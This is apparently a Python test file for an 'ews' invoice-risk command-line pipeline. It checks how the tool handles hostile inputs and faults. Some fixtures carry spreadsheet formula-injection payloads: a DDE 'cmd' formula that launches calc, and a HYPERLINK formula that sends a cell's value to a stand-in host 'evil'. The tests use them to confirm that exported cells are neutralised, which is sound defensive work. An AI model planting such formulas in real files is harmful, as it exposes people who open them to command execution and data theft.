"""Session 7 (s7-robust): hostile inputs and faults, end to end through the ``ews`` commands.

Each test was written before its fix and fails without it. Small books, < 3 s each warm.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipelines.cli import app

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data" / "ingest" / "base"


@pytest.mark.parametrize("command", ["score", "backfill"])
def test_no_champion_is_refused_before_prefect_or_any_feature(
    command: str, tmp_path: Path, monkeypatch, mlflow_uri
) -> None:
    """Before: `ews score` with no trained model started Prefect's server and the flow and spent
    14-20 CPU-s before its 'no alias champion' (measured 18.1 CPU-s); now the registry is read
    first (0.55 CPU-s for the whole command). Since session 41 only with --require-model: without it a
    project with no PD model registered runs without one (tests/pipelines/test_nomodel_s41.py)."""
    import pipelines.commands.score as score_cmd

    def no_flow(*args, **kwargs):
        raise AssertionError("the flow runtime was started")

    monkeypatch.setattr(score_cmd, "flow_runtime", no_flow)
    monkeypatch.chdir(ROOT)
    out = tmp_path / "runs"
    dates = (
        ["--as-of", "2024-06-30"] if command == "score" else ["--from", "2024-06-01", "--to", "2024-06-30"]
    )
    result = CliRunner().invoke(
        app, [command, "--data", str(DATA), "--raw", *dates, "--out", str(out), "--require-model"]
    )
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "AssertionError" not in repr(result.exception)
    assert f"model 'ews-pd' has no alias 'champion' in {mlflow_uri}" in result.output
    assert "(model_name / model_alias in conf/nightly.yaml)" in result.output
    assert "ews train" in result.output
    assert not out.exists()


def test_a_champion_registered_without_a_run_is_a_one_line_error(mlflow_uri: str) -> None:
    """A version registered from a folder by hand (no MLflow run) whose folder is gone. Before: the
    error path itself crashed (`client.get_run(None)`: TypeError, Prefect tracebacks, exit 1)."""
    from mlflow.tracking import MlflowClient

    from pipelines.adapters import registry

    client = MlflowClient(tracking_uri=mlflow_uri, registry_uri=mlflow_uri)
    client.create_registered_model("ews-pd")
    client.create_model_version("ews-pd", source="/no/such/model-folder")
    client.set_registered_model_alias("ews-pd", "champion", "1")
    with pytest.raises(registry.ModelArtifactsError) as err:
        registry.load_model_version("champion", "ews-pd")
    assert "version 1 is registered but its files cannot be read from /no/such/model-folder (no run)" in str(
        err.value
    )


def test_neutralise_covers_line_feed_and_full_width_formula_starts() -> None:
    """Full-width ＝ ＋ － ＠ start formulas in Excel in a Japanese environment (OWASP www-community
    issue 1088); OWASP added the line feed (PR 1116). Before: all five exported as written."""
    import pandas as pd

    from pipelines.adapters.exports import neutralise

    cells = ["＝cmd|' /C calc'!A0", "＋1+1", "－2+3", "＠SUM(A1)", "\n=1+1", "Müller＝GmbH", "ー長音", "＄5"]
    assert neutralise(pd.DataFrame({"x": cells}))["x"].tolist() == [
        "'＝cmd|' /C calc'!A0",
        "'＋1+1",
        "'－2+3",
        "'＠SUM(A1)",
        "'\n=1+1",
        "Müller＝GmbH",
        "ー長音",
        "＄5",
    ]


def _hostile_invoices(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    files = {t: folder / f"{t}.csv" for t in ("debtors", "invoices", "payments")}
    files["debtors"].write_text("debtor_id,name\nD1,Acme\nD2,Beta\n", encoding="utf-8")
    files["invoices"].write_text(
        "invoice_id,debtor_id,issue_date,due_date,amount\n"
        "I1,D1,2024-01-01,2024-01-31,100\n"
        '"=HYPERLINK(""http://evil/?""&A1,""x"")",NOPE,2024-03-01,2024-03-31,10\n'
        "I3,＝cmd|' /C calc'!A0,2024-03-01,2024-03-31,10\n"
        "＠SUM(A1),D2,2024-03-01,2024-03-31,abc\n"
        "I5,D2,2024-03-01,2024-03-31,－5+3\n"
        "I6,D2,2024-03-05,2024-04-04,50\n",
        encoding="utf-8",
    )
    files["payments"].write_text("payment_id,debtor_id,invoice_id,paid_on,amount\nP1,D1,I1,2024-01-30,100\n")
    return files


def test_ingest_quarantine_csv_cells_cannot_run_as_formulas_streamed_or_not(tmp_path: Path) -> None:
    """Before: OUT/quarantine/invoices.csv held the refused rows as written, `=HYPERLINK(...)` first
    in its cell (what users open to see what was refused; `ews score` copies the file into every run).
    Amounts of rows refused across tables read as the file wrote them ("10", not "10.0"; s29-ux)."""
    import csv

    from tests.pipelines.test_ingest_stream import _ingest, _outputs

    files = _hostile_invoices(tmp_path / "in")
    manifest = _ingest(files, tmp_path / "mem", bucket_rows=10**6)
    inv = manifest["tables"]["invoices"]
    assert (inv["rows_in"], inv["rows_accepted"], inv["rows_quarantined"]) == (6, 2, 4)
    text = (tmp_path / "mem" / "quarantine" / "invoices.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    # the amount of a row a cross-table check rejects as the file wrote it ("10"; "10.0" before 312aa57)
    assert [(r["invoice_id"], r["debtor_id"], r["amount"]) for r in rows] == [
        ('\'=HYPERLINK("http://evil/?"&A1,"x")', "NOPE", "10"),
        ("I3", "'＝cmd|' /C calc'!A0", "10"),
        ("'＠SUM(A1)", "D2", "abc"),
        ("I5", "D2", "'－5+3"),
    ]
    _ingest(files, tmp_path / "stream", bucket_rows=10**6, stream=True, chunk_rows=2, partitions=2, workers=1)
    assert _outputs(tmp_path / "stream") == _outputs(tmp_path / "mem")


@pytest.mark.parametrize(
    ("args", "fix"),
    [
        (
            ["override", "-X1", "--status", "cleared", "--reason", "paid in full", "--by", "ann"],
            "ews watchlist override --status cleared --reason 'paid in full' --by ann -- -X1",
        ),
        (["history", "--out", "runs", "-7"], "ews watchlist history --out runs -- -7"),
    ],
)
def test_a_debtor_id_starting_with_a_dash_gets_the_fix_in_the_error(args: list[str], fix: str) -> None:
    """Before: "No such option: -X" and nothing else (the id was read as options -X -1)."""
    import re

    result = CliRunner().invoke(app, ["watchlist", *args])
    assert result.exit_code == 2
    text = " ".join(re.sub(r"[│╭╮╰╯─]", " ", result.output).split())
    assert f"is a debtor id, put it after '--' so that it is not read as an option: {fix}" in text, text


def test_backtest_month_ends_outside_the_data_are_refused_or_left_out(tmp_path: Path) -> None:
    """Before: `ews backtest` over month-ends after the data (2030) exited 0 with 0 debtor-months
    and every figure empty; before the data (2019) it replayed the debtors' master rows and called
    the model in-sample there. Now: none inside, exit 2 before any model is loaded; some outside,
    left out with a warning (the data: 2024-01-01 .. 2024-04-27)."""
    import datetime as dt

    import typer

    from pipelines.backtest import month_end_dates
    from pipelines.commands.backtest import _inside_the_data
    from tests.pipelines.test_hostile_s4 import _ingest, _ledger

    data = tmp_path / "data"
    assert _ingest(_ledger(tmp_path / "in"), data).exit_code == 0
    args = ["backtest", "--data", str(data), "--out", str(tmp_path / "bt"), "--from", "2030-01-01"]
    result = CliRunner().invoke(app, [*args, "--to", "2030-03-31"])
    assert result.exit_code == 2, result.output
    assert (
        f"no month-end from 2030-01-01 to 2030-03-31 lies inside the data of --data {data} (dated rows "
        "from 2024-01-01 to 2024-04-27): there is nothing to replay" in " ".join(result.output.split())
    )
    assert not (tmp_path / "bt").exists()
    before = month_end_dates(dt.date(2019, 1, 1), dt.date(2019, 3, 31))
    with pytest.raises(typer.Exit):
        _inside_the_data(data, before, dt.date(2019, 1, 1), dt.date(2019, 3, 31))
    dates = month_end_dates(dt.date(2023, 12, 1), dt.date(2024, 6, 30))
    kept = _inside_the_data(data, dates, dt.date(2023, 12, 1), dt.date(2024, 6, 30))
    assert [d.date().isoformat() for d in kept] == ["2024-01-31", "2024-02-29", "2024-03-31"]


def test_an_ingest_folder_with_a_table_from_another_ingest_is_refused(tmp_path: Path) -> None:
    """Before: the invoices bucket of a newer ingest copied into an older ingest folder (other rows,
    same layout) was scored with exit 0 and no word; a missing bucket file likewise. Now the readers
    compare each table's Parquet footers and files with manifest.json: exit 2 naming table and fix."""
    import pyarrow.parquet as pq

    from tests.pipelines.test_hostile_s4 import _ingest, _ledger

    old = tmp_path / "old"
    assert _ingest(_ledger(tmp_path / "in12"), old).exit_code == 0  # 12 invoices, 12 payments
    bucket = old / "invoices/bucket=0/part-0.parquet"
    pq.write_table(pq.read_table(bucket).slice(0, 9), bucket)  # as another ingest's 9 invoices
    args = ["--data", str(old), "--as-of", "2024-04-30"]
    result = CliRunner().invoke(app, ["features", *args, "--out", str(tmp_path / "f.parquet")])
    assert result.exit_code == 2, result.output
    assert (
        f"--data {old}: invoices holds 9 rows in 1 bucket file while its manifest.json says this ingest "
        "accepted 12: the files come from different `ews ingest` runs" in " ".join(result.output.split())
    )
    (old / "invoices/bucket=0/part-0.parquet").unlink()
    result = CliRunner().invoke(app, ["features", *args, "--out", str(tmp_path / "f.parquet")])
    assert result.exit_code == 2
    assert "invoices/bucket=0/part-0.parquet listed there but missing" in " ".join(result.output.split())
    assert not (tmp_path / "f.parquet").exists()


def test_suggest_says_which_sheet_it_took_and_maps_the_one_named(tmp_path: Path) -> None:
    """Before: a workbook whose first sheet is a summary was drafted from that sheet (invoice_id
    mapped to its title, every other column missing) without a word about the sheet of open items."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "Summary"
    book.active["A1"] = "Totals by customer"
    items = book.create_sheet("Open items")
    items.append(["Invoice", "Customer", "Invoice date", "Due date", "Amount"])
    items.append(["INV1", "C1", "2024-01-05", "2024-02-04", 100])
    items.append(["INV2", "C2", "2024-01-09", "2024-02-08", 250.5])
    book.save(tmp_path / "ar.xlsx")
    args = ["sources", "suggest", str(tmp_path / "ar.xlsx"), "--out", str(tmp_path / "d.yaml"), "--force"]
    first = CliRunner().invoke(app, args)  # the summary: a title, no rows
    assert first.exit_code == 2 and "has a header but no data rows" in first.output, first.output
    assert (
        "the workbook has 2 sheets; the first was taken. Others: 'Open items'. Pick one with --sheet NAME"
        in (" ".join(first.output.split()))
    )
    wrong = CliRunner().invoke(app, [*args, "--sheet", "Open"])
    assert (
        wrong.exit_code == 2 and "no sheet named 'Open'; its sheets: 'Summary', 'Open items'" in wrong.output
    )
    named = CliRunner().invoke(app, [*args, "--sheet", "Open items"])
    assert named.exit_code == 0 and "Others" not in named.output
    draft = (tmp_path / "d.yaml").read_text()
    for line in (
        'invoice_id: "Invoice"',
        'debtor_id: "Customer"',
        'amount: "Amount"',
        'due_date: "Due date"',
    ):
        assert line in draft, draft
    # session 38: the draft names the workbook and the sheet (the summary sheet holds data too)
    assert f'path: "{tmp_path / "ar.xlsx"}"\n    sheet: "Open items"' in draft, draft
    from pipelines.sources.suggest import excel_to_csv  # the converter `ews sources suggest` used

    excel_to_csv(tmp_path / "ar.xlsx", tmp_path / "ar.csv", "Open items")
    assert (tmp_path / "ar.csv").read_text().splitlines()[1] == "INV1,C1,2024-01-05,2024-02-04,100"
